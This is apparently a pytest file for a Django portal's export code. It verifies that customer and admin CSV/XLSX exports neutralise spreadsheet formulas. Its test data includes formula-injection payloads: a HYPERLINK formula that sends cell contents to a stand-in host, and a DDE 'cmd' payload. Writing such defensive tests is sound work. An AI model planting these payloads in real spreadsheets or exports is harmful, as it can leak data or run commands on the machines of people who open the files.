"""Spreadsheet exports never carry formulas: text starting with = + - @ (tab, CR) is neutralised in the
customer CSV exports and in the admin's CSV / XLSX exports."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from portal_models.exports import safe_cell
from portal_models.services import billing
from portal_models.tests.factories import ContactFactory, StaffUserFactory, TicketFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Go")',  # fits the 40-character fields
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formula(cells):
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula in an export: {cell!r}"


def test_safe_cell():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Printer offline") == "Printer offline"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_customer_ticket_export(signed_in_client, customer_a):
    for text in FORMULAS:
        TicketFactory(account=customer_a.account, created_by=customer_a.user, subject=text)
    table = rows(signed_in_client.get("/acme/tickets/export/"))
    subjects = [row[1] for row in table[1:]]
    assert sorted(subjects) == sorted("'" + t for t in FORMULAS)
    assert_no_formula(cell for row in table for cell in row)


def test_customer_invoice_export(signed_in_client, customer_a):
    for i, text in enumerate(FORMULAS):
        billing.invoice_create(
            account=customer_a.account,
            number=text if i % 2 else f"{i}",
            lines=[{"description": "Service", "unit_price": "10.00"}],
            due_date=date(2030, 1, 1),
            terms=text,
        )
    table = rows(signed_in_client.get("/acme/invoices/export/"))
    assert len(table) == len(FORMULAS) + 1
    assert_no_formula(cell for row in table for cell in row)
    assert any(cell == "'" + FORMULAS[0] for row in table for cell in row)


@pytest.fixture
def staff_client(client, db):
    client.force_login(StaffUserFactory())
    return client


def test_admin_contact_export_csv(staff_client, customer_a):
    for text in FORMULAS:
        ContactFactory(account=customer_a.account, first_name=text, last_name=text, title=text)
    table = rows(staff_client.get(reverse("portal_models_contact_modeladmin_index") + "?export=csv"))
    assert len(table) == len(FORMULAS) + 2  # header, customer_a, the contacts
    assert_no_formula(cell for row in table for cell in row)
    assert any(cell == "'" + FORMULAS[0] for row in table for cell in row)


def test_admin_account_export_xlsx(staff_client, customer_a):
    from openpyxl import load_workbook

    account = customer_a.account
    account.name = FORMULAS[0]
    account.city = "=1+1"
    account.save()
    response = staff_client.get(reverse("portal_models_account_modeladmin_index") + "?export=xlsx")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [str(cell.value) for cell in cells if cell.value is not None]
    assert "'" + FORMULAS[0] in values
    assert_no_formula(values)
